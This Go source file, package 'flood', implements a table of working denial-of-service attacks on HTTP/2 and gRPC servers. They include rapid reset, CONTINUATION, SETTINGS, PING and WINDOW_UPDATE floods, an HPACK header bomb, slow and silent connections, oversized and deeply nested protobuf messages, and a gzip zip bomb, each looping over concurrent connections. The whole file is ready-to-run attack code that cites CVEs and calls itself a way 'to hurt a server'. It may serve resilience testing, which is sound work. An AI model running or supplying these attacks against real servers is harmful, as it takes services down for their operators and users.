package flood

import (
	"bytes"
	"compress/gzip"
	"context"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attack is one way to hurt a server.
type Attack struct {
	Name string // as in CVEs and talks
	What string // what is sent
	Conn int    // connections at once
	once func(ctx context.Context, t Target, sent *atomic.Int64) error
}

// Run attacks until ctx ends. It counts in sent what it has sent, in frames, calls or connections.
func (a Attack) Run(ctx context.Context, t Target, sent *atomic.Int64) {
	var all sync.WaitGroup
	for range a.Conn {
		all.Go(func() {
			for ctx.Err() == nil {
				_ = a.once(ctx, t, sent) // whatever ended it, it goes on with a new connection
			}
		})
	}
	all.Wait()
}

// over runs one attack over one connection until it fails or ctx ends. What the server sends is read and thrown away,
// unless the attack is not to read.
func over(ctx context.Context, t Target, deaf bool, attack func(*Conn) error, settings ...http2.Setting) error {
	c, err := Dial(ctx, t, settings...)
	if err != nil {
		return err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, c.Close)()
	if !deaf {
		go func() { // ends with the connection
			_, _ = io.Copy(io.Discard, c.tls)
		}()
	}
	for ctx.Err() == nil {
		if err := attack(c); err != nil {
			return err
		}
	}
	return nil
}

// plain is an attack that repeats one step over each connection.
func plain(step func(t Target, c *Conn) error) func(context.Context, Target, *atomic.Int64) error {
	return func(ctx context.Context, t Target, sent *atomic.Int64) error {
		return over(ctx, t, false, func(c *Conn) error {
			sent.Add(1)
			return step(t, c)
		})
	}
}

// call is an attack that makes whole calls, one after the other, without waiting for the answers.
func call(compressed byte, extra []hpack.HeaderField, message func(t Target) []byte) func(context.Context, Target, *atomic.Int64) error {
	var made sync.Once // a message may cost more to make than to refuse
	var body []byte
	return func(ctx context.Context, t Target, sent *atomic.Int64) error {
		made.Do(func() { body = framed(message(t), compressed) })
		return plain(func(t Target, c *Conn) error {
			id, err := c.begin(t.Method, extra...)
			if err != nil {
				return err
			}
			return c.body(id, body)
		})(ctx, t, sent)
	}
}

const megabyte = 1 << 20

// Attacks are all of them, in the order of a table.
func Attacks() []Attack {
	return []Attack{
		{"rapid reset", "HEADERS and RST_STREAM, at once and again", 8, plain(func(t Target, c *Conn) error {
			id, err := c.begin(t.Method)
			if err != nil {
				return err
			}
			return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		})},
		{"CONTINUATION flood", "headers that never end", 8, plain(func(t Target, c *Conn) error {
			if c.stream == 1 {
				c.stream += 2
				return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: bytes.Clone(c.headers(t.Method))})
			}
			c.block.Reset()
			_ = c.enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 8<<10), Sensitive: true})
			return c.fr.WriteContinuation(1, false, c.block.Bytes())
		})},
		{"SETTINGS flood", "settings, each of which asks for an acknowledgement", 8, plain(func(_ Target, c *Conn) error {
			return c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
		})},
		{"PING flood", "pings, each of which asks for an answer", 8, plain(func(_ Target, c *Conn) error {
			return c.fr.WritePing(false, [8]byte{1})
		})},
		{"PING flood, deaf", "pings, whose answers are not read", 8, func(ctx context.Context, t Target, sent *atomic.Int64) error {
			return over(ctx, t, true, func(c *Conn) error {
				sent.Add(1)
				return c.fr.WritePing(false, [8]byte{1})
			})
		}},
		{"empty DATA flood", "frames of a message that hold nothing of it", 8, plain(func(t Target, c *Conn) error {
			if c.stream == 1 {
				_, err := c.begin(t.Method)
				return err
			}
			return c.fr.WriteData(1, false, nil)
		})},
		{"WINDOW_UPDATE flood", "a window of one byte more, again and again", 8, plain(func(_ Target, c *Conn) error {
			return c.fr.WriteWindowUpdate(0, 1)
		})},
		{"header bomb", "two bytes a header that stand for four thousand", 8, headerBomb},
		{"silent connections", "TCP and not a word", 4, silentConnections},
		{"slow bodies", "a hundred calls a connection with all of a message but its last byte", 32, slowBodies},
		{"deaf calls", "calls whose answers have no window", 8, func(ctx context.Context, t Target, sent *atomic.Int64) error {
			return over(ctx, t, false, func(c *Conn) error {
				sent.Add(1)
				id, err := c.begin(t.Method)
				if err != nil {
					return err
				}
				return c.body(id, framed(t.Message, 0))
			}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		}},
		{"giant messages", "4 MiB", 4, call(0, nil, func(Target) []byte { return make([]byte, 4*megabyte) })},
		{"many fields", "a hundred thousand fields in 256 KiB", 8, call(0, nil, func(Target) []byte {
			// field 1, a message, of field 3, an empty message, as often as fits
			inner := bytes.Repeat([]byte{3<<3 | 2, 0}, 120_000)
			n := len(inner)
			return append([]byte{1<<3 | 2, byte(n&0x7f | 0x80), byte(n>>7&0x7f | 0x80), byte(n >> 14)}, inner...)
		})},
		{"deep messages", "a group in a group, two hundred thousand times", 8, call(0, nil, func(Target) []byte { return bytes.Repeat([]byte{1<<3 | 3}, 200_000) })},
		{"zip bombs", "gzip that unpacks to 100 MB", 8, call(1, []hpack.HeaderField{{Name: "grpc-encoding", Value: "gzip"}}, bomb)},
		{"calls", "whole calls that are understood and refused", 8, call(0, nil, func(t Target) []byte { return t.Message })},
	}
}

// headerBomb names a large header once and then refers to it (CVE-2019-9518 and its kin).
func headerBomb(ctx context.Context, t Target, sent *atomic.Int64) error {
	return plain(func(t Target, c *Conn) error {
		block := bytes.Clone(c.headers(t.Method, hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 4000)}))
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 4000)...) // the newest entry of the table
		id := c.stream
		c.stream += 2
		return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
	})(ctx, t, sent)
}

// silentConnections holds as many connections as it can and says nothing on any.
func silentConnections(ctx context.Context, t Target, sent *atomic.Int64) error {
	var held []net.Conn
	defer func() {
		for _, c := range held {
			_ = c.Close()
		}
	}()
	for ctx.Err() == nil && len(held) < 300 {
		c, err := silent(ctx, t)
		if err != nil {
			break
		}
		sent.Add(1)
		held = append(held, c)
	}
	for _, c := range held { // until the server ends the last of them
		stop := context.AfterFunc(ctx, func() { _ = c.Close() })
		_, _ = io.Copy(io.Discard, c)
		stop()
	}
	return nil
}

// slowBodies begins as many calls as a connection takes and sends all of a message of 256 KiB but its last byte.
func slowBodies(ctx context.Context, t Target, sent *atomic.Int64) error {
	c, err := Dial(ctx, t)
	if err != nil {
		return err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, c.Close)()
	part := framed(make([]byte, 255<<10), 0)
	for range 100 {
		id, err := c.begin(t.Method)
		if err != nil {
			return err
		}
		sent.Add(1)
		if err := c.fr.WriteData(id, false, part[:2<<10]); err != nil { // little enough for the connection's window
			return err
		}
	}
	_, err = io.Copy(io.Discard, c.tls)
	return err
}

// bomb is a megabyte of zeroes, a hundred times, packed.
func bomb(Target) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	for range 100 {
		_, _ = w.Write(make([]byte, megabyte)) // into memory
	}
	_ = w.Close()
	return b.Bytes()
}
